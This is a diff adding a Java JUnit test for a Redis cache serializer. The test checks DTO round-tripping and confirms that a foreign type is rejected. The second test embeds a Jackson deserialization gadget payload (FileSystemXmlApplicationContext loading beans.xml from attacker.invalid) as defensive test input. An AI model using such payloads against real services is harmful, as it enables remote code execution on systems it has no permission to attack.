@@ -0,0 +1,49 @@
+package com.atlas.product.config;
+
+import com.atlas.product.cache.CacheEnvelope;
+import com.atlas.product.dto.ProductResponse;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Test;
+import org.springframework.data.redis.serializer.GenericJackson2JsonRedisSerializer;
+import org.springframework.data.redis.serializer.SerializationException;
+
+import java.math.BigDecimal;
+import java.nio.charset.StandardCharsets;
+import java.util.Set;
+import java.util.UUID;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+class CacheConfigTest {
+
+    private final GenericJackson2JsonRedisSerializer serializer = CacheConfig.valueSerializer();
+
+    @Test
+    @DisplayName("Should round-trip cached DTOs through the envelope")
+    void valueSerializer_RoundTripsDtos() {
+        ProductResponse product = ProductResponse.builder()
+                .id(UUID.randomUUID())
+                .name("Desk lamp")
+                .price(new BigDecimal("49.90"))
+                .additionalImages(Set.of("a.png"))
+                .build();
+
+        Object value = serializer.deserialize(serializer.serialize(new CacheEnvelope(product, 12, 1000L)));
+
+        assertThat(value).isInstanceOf(CacheEnvelope.class);
+        assertThat(((CacheEnvelope) value).getValue()).isEqualTo(product);
+    }
+
+    @Test
+    @DisplayName("Should refuse to instantiate types outside the allowed packages")
+    void valueSerializer_ForeignType_Rejected() {
+        byte[] payload = """
+                {"@class":"org.springframework.context.support.FileSystemXmlApplicationContext",
+                 "configLocation":"http://attacker.invalid/beans.xml"}
+                """.getBytes(StandardCharsets.UTF_8);
+
+        assertThatThrownBy(() -> serializer.deserialize(payload))
+                .isInstanceOf(SerializationException.class);
+    }
+}